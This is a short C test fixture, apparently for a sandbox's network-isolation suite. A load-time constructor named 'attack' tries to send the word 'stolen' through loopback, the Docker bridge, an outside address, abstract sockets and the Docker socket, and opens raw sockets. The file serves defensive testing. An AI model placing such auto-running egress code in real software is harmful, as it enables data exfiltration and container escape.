/* Every way out of a network namespace: the machine's loopback, its bridge, the internet, abstract
 * sockets, raw packets.
 * Expect: passes */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static void call(const char *address, int port, int kind)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    int fd = socket(AF_INET, kind | SOCK_NONBLOCK, 0);
    inet_pton(AF_INET, address, &to.sin_addr);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0 || errno == EINPROGRESS)
        if (send(fd, "stolen", 6, MSG_NOSIGNAL) == 6)
            fprintf(stderr, "sent to %s\n", address);
    close(fd);
}

static void call_name(const char *name, size_t length)
{
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    memcpy(to.sun_path, name, length);
    if (connect(fd, (struct sockaddr *)&to, (socklen_t)(sizeof(sa_family_t) + length)) == 0)
        send(fd, "stolen", 6, MSG_NOSIGNAL);
    close(fd);
}

__attribute__((constructor)) static void attack(void)
{
    static const char abstract[] = "\0@SOCKET@";
    call("127.0.0.1", @PORT@, SOCK_STREAM);
    call("127.0.0.1", @PORT@, SOCK_DGRAM);
    call("172.17.0.1", @PORT@, SOCK_STREAM);
    call("192.0.2.1", 53, SOCK_DGRAM);
    call_name(abstract, sizeof abstract - 1);
    call_name("/var/run/docker.sock", sizeof "/var/run/docker.sock");
    close(socket(AF_PACKET, SOCK_RAW, 0));
    close(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
}
